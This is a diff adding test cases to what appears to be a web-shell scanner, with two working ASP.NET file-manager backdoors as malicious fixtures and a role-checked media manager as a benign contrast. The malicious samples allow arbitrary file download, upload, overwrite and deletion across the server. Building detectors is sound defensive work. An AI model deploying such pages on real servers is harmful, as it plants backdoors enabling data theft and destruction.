@@ -270,3 +270,58 @@ echo htmlspecialchars($state);
     assert.notEqual(scan(src, '/www/health.php').verdict, 'malicious');
   });
 });
+
+// Held-out set AA (session 31): ASP.NET file managers over the server's own paths.
+describe('scan: session 31, held-out set AA\'s techniques written again', () => {
+  it('malicious: a WebForms file manager over the drives, its path a TextBox\'s', () => {
+    const src = `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  if (!IsPostBack) { Path1.Text = @"C:\\"; Show(Path1.Text); }
+  foreach (var d in DriveInfo.GetDrives()) Drives.Items.Add(d.Name);
+}
+void Show(string p) { Grid.DataSource = new DirectoryInfo(p).GetFileSystemInfos(); Grid.DataBind(); }
+protected void Grid_Command(object s, GridViewCommandEventArgs e) {
+  string p = e.CommandArgument.ToString();
+  if (e.CommandName == "Get") { Response.ContentType = "application/octet-stream"; Response.WriteFile(p); Response.End(); }
+  if (e.CommandName == "Del") { if (File.Exists(p)) File.Delete(p); else Directory.Delete(p, true); Show(Path1.Text); }
+}
+protected void Up_Click(object s, EventArgs e) { Up.SaveAs(Path.Combine(Path1.Text, Path.GetFileName(Up.FileName))); Show(Path1.Text); }
+</script>
+<form runat="server"><asp:TextBox ID="Path1" runat="server" /><asp:DropDownList ID="Drives" runat="server" />
+<asp:GridView ID="Grid" runat="server" OnRowCommand="Grid_Command" /><asp:FileUpload ID="Up" runat="server" /></form>`;
+    const r = scan(src, '/www/files.aspx');
+    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+  });
+  it('malicious: a manager of the folder and file the query names, editing and deleting them', () => {
+    const src = `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  string dir = Request.QueryString["dir"] ?? Server.MapPath("~/");
+  string file = Request.QueryString["file"];
+  if (Request.QueryString["do"] == "save" && file != null) File.WriteAllText(file, Request.Form["body"]);
+  if (Request.QueryString["do"] == "del" && file != null) File.Delete(file);
+  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Path.Combine(dir, Request.Files[0].FileName));
+  foreach (string f in Directory.GetFiles(dir)) Response.Write("<a href='?file=" + Server.UrlEncode(f) + "'>" + Path.GetFileName(f) + "</a><br>");
+}
+</script>`;
+    const r = scan(src, '/www/fm.aspx');
+    assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+  });
+  it('not malicious: a site\'s media manager, its folders mapped under the site', () => {
+    const src = `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+  if (!User.IsInRole("editor")) { Response.StatusCode = 403; return; }
+  string folder = Server.MapPath("~/media/" + Path.GetFileName(Request.QueryString["album"] ?? "default"));
+  if (Request.QueryString["del"] != null) File.Delete(Path.Combine(folder, Path.GetFileName(Request.QueryString["del"])));
+  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Path.Combine(folder, Guid.NewGuid() + ".jpg"));
+  foreach (string f in Directory.GetFiles(folder, "*.jpg")) Response.Write("<img src='/media/" + Path.GetFileName(f) + "'>");
+}
+</script>`;
+    assert.notEqual(scan(src, '/www/media.aspx').verdict, 'malicious');
+  });
+});
